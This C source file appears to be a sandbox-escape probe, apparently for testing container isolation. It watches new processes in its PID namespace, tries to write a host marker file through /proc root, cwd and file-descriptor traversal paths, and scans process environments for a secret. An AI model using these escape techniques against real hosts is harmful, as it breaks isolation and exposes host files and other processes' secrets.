/* Looks at every new process of its PID namespace through /proc, as fast as it can, and tries to get out by it.
 *
 * Usage: proc_watcher MARKER   (the path of a file of the host, as the host spells it)
 *
 * Writes one line for each thing seen, once for each process:
 *   seen PID                     the process was there
 *   escaped PID HOW              the host's marker was opened for writing
 *   open PID TARGET              a descriptor
 *   cwd PID TARGET
 *   secret PID                   HOST_SECRET is in its environment
 *   state PID CAPEFF CAPPRM SECCOMP
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define AHEAD 64
#define KEPT 512

static char kept[KEPT][192];
static int kept_count;

static void tell(const char *line) {
    for (int i = 0; i < kept_count; i++)
        if (strcmp(kept[i], line) == 0)
            return;
    if (kept_count < KEPT)
        snprintf(kept[kept_count++], sizeof kept[0], "%s", line);
    puts(line);
    fflush(stdout);
}

static void try_marker(int pid, const char *how, const char *marker) {
    char path[512], line[192];
    snprintf(path, sizeof path, "/proc/%d/%s%s", pid, how, marker);
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0)
        return;
    write(fd, "escaped\n", 8);
    close(fd);
    snprintf(line, sizeof line, "escaped %d %s", pid, how);
    tell(line);
}

static void look(int pid, const char *marker) {
    char path[64], line[192], target[96], data[4096];
    ssize_t size;
    int fd;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    if ((fd = open(path, O_RDONLY)) < 0)
        return;
    size = read(fd, data, sizeof data - 1);
    close(fd);
    if (size > 0) {
        char *effective, *permitted, *seccomp;
        unsigned long long eff = 0, prm = 0;
        int mode = -1;
        data[size] = 0;
        if ((effective = strstr(data, "CapEff:"))) sscanf(effective + 7, "%llx", &eff);
        if ((permitted = strstr(data, "CapPrm:"))) sscanf(permitted + 7, "%llx", &prm);
        if ((seccomp = strstr(data, "Seccomp:"))) sscanf(seccomp + 8, "%d", &mode);
        if (!strstr(data, "State:\tZ") && !strstr(data, "State:\tX")) {
            snprintf(line, sizeof line, "state %d %llx %llx %d", pid, eff, prm, mode);
            tell(line);
        }
    }
    try_marker(pid, "root", marker);
    try_marker(pid, "cwd/../../../../../../../..", marker);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    if ((size = readlink(path, target, sizeof target - 1)) >= 0) {
        target[size] = 0;
        snprintf(line, sizeof line, "cwd %d %s", pid, target);
        tell(line);
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    if ((fd = open(path, O_RDONLY)) >= 0) {
        size = read(fd, data, sizeof data);
        close(fd);
        if (size > 0 && memmem(data, size, "HOST_SECRET", 11)) {
            snprintf(line, sizeof line, "secret %d", pid);
            tell(line);
        }
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    if (directory) {
        struct dirent *entry;
        while ((entry = readdir(directory))) {
            if (entry->d_name[0] == '.')
                continue;
            if ((size = readlinkat(dirfd(directory), entry->d_name, target, sizeof target - 1)) < 0)
                continue;
            target[size] = 0;
            snprintf(line, sizeof line, "open %d %s", pid, target);
            tell(line);
            char way[64];
            snprintf(way, sizeof way, "fd/%s/../../../../../../../..", entry->d_name);
            try_marker(pid, way, marker);
        }
        closedir(directory);
    }
    snprintf(line, sizeof line, "seen %d", pid);
    tell(line);
}

int main(int count, char **words) {
    int self = getpid(), last = self;
    char path[64];
    if (count < 2)
        return 2;
    puts("watching");
    fflush(stdout);
    for (;;)
        /* Numbers are given out in order, so the next processes are among the next few. */
        for (int pid = self + 1; pid <= last + AHEAD; pid++) {
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (pid + AHEAD < last || access(path, F_OK) != 0)
                continue;
            if (pid > last)
                last = pid;
            look(pid, words[1]);
        }
}
